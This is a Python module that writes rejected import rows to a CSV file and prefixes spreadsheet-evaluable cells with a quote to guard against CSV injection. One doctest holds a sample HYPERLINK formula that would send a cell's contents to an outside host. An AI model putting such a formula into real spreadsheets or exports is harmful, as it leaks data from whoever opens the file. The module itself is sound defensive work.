"""The rejects file: every rejected row as it was read, with its row number and the reason first
(UTF-8 with BOM, Chinese headers), written into the import's transaction so it lands with the store.
Cells a spreadsheet would evaluate (``= + - @``, tab, CR, LF first: :mod:`chainmap.safe`) are neutralised with a leading quote."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

from ..safe import neutralise
from .store import Transaction

__all__ = ["Rejects", "neutral"]


def neutral(value: Any) -> str:
    """A cell as text a spreadsheet shows and never evaluates (OWASP CSV injection rules).

    Examples
    --------
    >>> neutral('=HYPERLINK("http://x/?d="&A1,"点此")')[:3], neutral("-5"), neutral(None), neutral(12)
    ("'=H", "'-5", '', '12')
    >>> neutral("\\n=1+1"), neutral("＠SUM(1)"), neutral("甲\\x00乙")
    ("'\\n=1+1", "'＠SUM(1)", '甲␀乙')
    """
    if value is None:
        return ""
    return neutralise(str(value).replace("\x00", "␀"))  # a NUL shown as the sign for it, not a broken file


class Rejects:
    """Rejected rows of one import, streamed to a temporary file of the transaction on the first one."""

    def __init__(self, path: Path, headers: list[str], tx: Transaction | None):
        self.path, self.headers, self.tx = path, headers, tx
        self._fh: Any = None
        self._writer: Any = None
        self.count = 0

    def add(self, rownum: int, reason: str, cells: list[Any]) -> None:
        self.count += 1
        if self.tx is None:  # no transaction to write into (a caller counting only)
            return
        if self._writer is None:
            self._fh = self.tx.open_text(self.path, encoding="utf-8-sig")
            self._writer = csv.writer(self._fh)
            self._writer.writerow(["原文件行号", "拒绝原因", *map(neutral, self.headers)])
        self._writer.writerow([rownum, neutral(reason), *map(neutral, cells)])

    def close(self) -> bool:
        """Close the file; True when there was something to write."""
        if self._fh is not None:
            self._fh.close()
            self._fh = None
            return True
        return False
